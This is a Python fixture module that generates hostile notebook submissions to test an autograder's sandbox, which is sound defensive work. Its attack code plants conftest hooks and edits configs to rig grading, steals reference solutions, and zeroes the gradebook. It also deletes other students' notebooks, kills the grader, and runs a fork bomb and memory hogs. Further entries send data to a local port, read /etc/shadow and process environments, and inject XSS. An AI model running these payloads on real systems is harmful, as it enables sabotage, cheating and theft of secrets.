"""Hostile submissions, generated at test time and named by attack (tests/test_hostile.py grades them).

Each attack starts from the untouched release (honest work: 0 points), so any point it earns is a gain, and puts
its code where a student could: a new cell after the helpers, or a solution cell. Every attack is self-limiting
(bounded loops and sleeps), so a broken sandbox fails the test instead of hanging the machine.
"""
import json
import os

import nbformat

import course_config as cfg
from tools import corpus

RELEASE = cfg.COURSE_ROOT / "release" / cfg.ASSIGNMENT_ID / f"{cfg.ASSIGNMENT_ID}.ipynb"
HONEST = ["passes_all", "one_mistake_per_exercise", "ex4_upside_down"]  # neighbours from tools/corpus.py

# Finds files by name anywhere the kernel can see, the way a student would look for the grader.
WALK = '''
import os
def _find(match, limit=20000):
    found, seen = [], 0
    for d, dirs, files in os.walk("/"):
        dirs[:] = [x for x in dirs if d != "/" or x not in ("proc", "sys", "dev")]
        seen += 1
        if seen > limit:
            break
        found += [os.path.join(d, f) for f in files + dirs if match(f)]
    return found
'''

# name -> (grade id of the cell whose source it replaces, or None for a new cell after the helpers; code)
ATTACKS = {
    "invented_grade_cells": (None, 'print("this cell claims to be worth 50 points")'),
    "overwrite_reference_cache": (None, WALK + '''
for p in _find(lambda f: f.endswith(".npz") or f == ".cache"):
    try:
        open(p, "wb").write(b"0" * 100) if os.path.isfile(p) else open(os.path.join(p, "reference-x.npz"), "wb").write(b"0")
        print("overwrote", p)
    except OSError as e:
        print("refused", p, e)
'''),
    "plant_conftest_and_edit_config": (None, WALK + '''
for p in _find(lambda f: f in ("checks", "autograder", "tests")):
    try:
        open(os.path.join(p, "conftest.py"), "w").write("import pytest\\n@pytest.hookimpl(hookwrapper=True)\\n"
            "def pytest_runtest_call(item):\\n    item.runtest = lambda: None\\n    yield\\n")
        print("planted", p)
    except OSError as e:
        print("refused", p, e)
for p in _find(lambda f: f in ("course_config.py", "nbgrader_config.py")):
    try:
        open(p, "a").write("\\nLATENT_TOLERANCE = dict(atol=1e9, rtol=1e9)\\n")
        print("edited", p)
    except OSError as e:
        print("refused", p, e)
'''),
    "steal_reference_solutions": ("ex3_arithmetic", WALK + '''
import sys, json, runpy
for key, value in os.environ.items():
    print(key, value)
for p in _find(lambda f: f == "solutions.py") + [os.environ.get("LATENT_LAB_EXPORTER", "")]:
    kit = os.path.dirname(os.path.dirname(p))
    sys.path.insert(0, kit)
    try:
        from reference import solutions
        answer = solutions.ex3_arithmetic(model, test_dataset)
        boot_direction, z_result = answer["boot_direction"], answer["z_result"]
        print("stole from", p)
    except Exception as e:
        print("no", p, type(e).__name__)
for p in _find(lambda f: f.endswith(".ipynb")):
    try:
        source = "".join(json.load(open(p))["cells"][i]["source"] for i in range(len(json.load(open(p))["cells"])))
    except Exception:
        continue
    if "BEGIN SOLUTION" in source:
        print("found solutions in", p)
        for cell in json.load(open(p))["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "ex3_arithmetic":
                exec("".join(cell["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
'''),
    "tamper_gradebook_and_other_students": (None, WALK + '''
import shutil, sqlite3
for p in _find(lambda f: f == "gradebook.db"):
    try:
        db = sqlite3.connect(p)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.commit()
        print("zeroed", p)
    except Exception as e:
        print("refused", p, e)
    course = os.path.dirname(p)
    for sub in ("source", "autograded", "feedback"):
        shutil.rmtree(os.path.join(course, sub), ignore_errors=True)
for p in _find(lambda f: f.endswith(".ipynb")):
    if not p.startswith(os.getcwd()):
        try:
            open(p, "w").write("{}")
            print("replaced", p)
        except OSError as e:
            pass
'''),
    "daemon_outlives_kernel": (None, '''
import os, time, glob
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 40
        while time.time() < end:
            for p in glob.glob("/tmp/latent_lab_*/**/*.npz", recursive=True) + glob.glob("/answers/*.npz"):
                try:
                    open(p, "wb").write(b"garbage")
                except OSError:
                    pass
            try:
                open("/tmp/latent_lab_daemon_was_here", "w").write("x")
            except OSError:
                pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
'''),
    "plant_modules_for_the_next_student": (None, WALK + '''
import sys
bad = "raise SystemExit('planted module ran')\\n"
targets = {os.getcwd(), os.path.expanduser("~"), "/tmp", *[p for p in sys.path if p and os.path.isdir(p)]}
targets |= {os.path.dirname(p) for p in _find(lambda f: f.endswith(".ipynb"))}
for d in targets:
    for name in ("torchvision.py", "sitecustomize.py", "usercustomize.py"):
        try:
            open(os.path.join(d, name), "w").write(bad)
            print("planted", d, name)
        except OSError:
            pass
'''),
    "kill_and_stop_the_grader": (None, '''
import os, signal
parents = [os.getppid()]
try:
    parents.append(int(open(f"/proc/{os.getppid()}/stat").read().split(")")[1].split()[1]))
except Exception:
    pass
for pid in parents:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            print("signalled", pid, sig)
        except OSError as e:
            print("refused", pid, e)
'''),
    "sigint_ignoring_loop": (None, '''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
end = time.time() + 400
while time.time() < end:
    pass
'''),
    "flood_stdout": (None, '''
import sys
chunk = "x" * 2**20
for _ in range(500):
    sys.stdout.write(chunk)
'''),
    "deep_nesting": ("ex5_experiment", '''
TARGET_CATEGORY = 7
experiment_latents = {}
level = experiment_latents
for _ in range(5000):
    level["deeper"] = {}
    level = level["deeper"]
boot_direction = []
for _ in range(5000):
    boot_direction = [boot_direction]
'''),
    "thousands_of_codes": ("ex5_experiment", '''
TARGET_CATEGORY = 7
experiment_latents = {f"t{i}": torch.randn(4, 32) for i in range(1000)}
'''),
    "memory_and_disk": (None, '''
import os
try:
    hog = bytearray(6 * 2**30)
    print("allocated 6 GB")
except MemoryError:
    print("no 6 GB")
for folder in (".", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(2048):
                f.write(b"x" * 2**20)
        print("wrote 2 GB in", folder)
    except OSError as e:
        print("stopped in", folder, e)
'''),
    "fork_bomb": (None, '''
import os, time
children = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break
print("forked", children)
'''),
    "network_and_secrets": (None, '''
import socket, glob, urllib.request
for attempt in (lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated"),
                lambda: urllib.request.urlopen("http://127.0.0.1:{port}/exfiltrated", timeout=2),
                lambda: socket.create_connection(("pypi.org", 443), timeout=2)):
    try:
        attempt()
        print("network reached")
    except Exception as e:
        print("no network", type(e).__name__)
for p in ["/etc/shadow"] + glob.glob("/proc/*/environ"):
    try:
        print(p, open(p, "rb").read()[:2000])
    except OSError as e:
        print("refused", p)
'''),
    "script_in_outputs": (None, '''
from IPython.display import HTML, Javascript, display
display(HTML('<script>document.title = "owned"</script><img src=x onerror="alert(1)"><b>bold</b>'))
display(Javascript('alert("owned")'))
'''),
}
MARKDOWN_ATTACK = "<script>alert('predict')</script><img src=x onerror=alert(2)> I predict clusters."


def _cells_by_id(nb):
    return {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}


def attack_notebook(name: str, port: int):
    nb = nbformat.read(RELEASE, as_version=4)
    target, code = ATTACKS[name]
    code = code.replace("{port}", str(port))
    cells = _cells_by_id(nb)
    if target is None:
        index = nb.cells.index(cells["helpers"]) + 1
        nb.cells.insert(index, nbformat.v4.new_code_cell(code))
    else:
        cells[target].source = code
    cells["ex1_predict"].source = MARKDOWN_ATTACK
    if name == "invented_grade_cells":  # a new grade cell, and more points on a real one
        nb.cells[nb.cells.index(cells["helpers"]) + 1].metadata["nbgrader"] = {
            "grade": True, "solution": False, "locked": False, "grade_id": "bonus_tests", "points": 50,
            "schema_version": 3}
        cells["ex3_arithmetic_tests"].metadata["nbgrader"]["points"] = 100
        cells["ex5_experiment"].metadata["nbgrader"].update(grade=True, points=50)  # a solution cell claims points
    return nb


def malformed_notebooks() -> dict:
    """{stem: file bytes}: the untouched release, valid JSON, with metadata nbgrader's own steps trip over, or a
    shape nbformat's schema refuses. Each costs its author alone: graded (0) or "not read" (0), never a stopped batch."""
    def release_with(change):
        nb = json.loads(RELEASE.read_text())
        solution = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "ex3_arithmetic")
        change(nb, solution)
        return json.dumps(nb).encode()

    return {
        "94_nbgrader_metadata_a_string": release_with(lambda nb, cell: cell["metadata"].update(nbgrader="x")),
        "95_solution_cell_without_grade_id": release_with(lambda nb, cell: cell["metadata"]["nbgrader"].pop("grade_id")),
        "96_unknown_cell_type": release_with(lambda nb, cell: cell.update(cell_type="weird")),
    }


def write_battery(folder, port: int, honest=HONEST, fifo=True) -> dict:
    """Attacks and honest neighbours interleaved by name order; returns {file stem: 'attack' | 'honest'}."""
    folder.mkdir(parents=True, exist_ok=True)
    kinds = {}
    names = list(ATTACKS)
    for i, name in enumerate(names):
        stem = f"{2 * i:02d}_{name}"
        nbformat.write(attack_notebook(name, port), folder / f"{stem}.ipynb")
        kinds[stem] = "attack"
        neighbour = honest[i % len(honest)]
        stem = f"{2 * i + 1:02d}_honest_{neighbour}"
        nbformat.write(corpus.notebook(neighbour), folder / f"{stem}.ipynb")
        kinds[stem] = "honest"
    links = {"90_symlink_to_source": cfg.COURSE_ROOT / "source" / cfg.ASSIGNMENT_ID / f"{cfg.ASSIGNMENT_ID}.ipynb",
             "91_symlink_to_passwd": "/etc/passwd"}
    for stem, target in links.items():
        os.symlink(target, folder / f"{stem}.ipynb")
        kinds[stem] = "attack"
    if fifo:
        os.mkfifo(folder / "92_fifo.ipynb")
        kinds["92_fifo"] = "attack"
    (folder / "93_nested_json.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    kinds["93_nested_json"] = "attack"
    for stem, data in malformed_notebooks().items():
        (folder / f"{stem}.ipynb").write_bytes(data)
        kinds[stem] = "attack"
    return kinds


def honest_name(stem: str) -> str:
    return stem.split("_honest_", 1)[1]
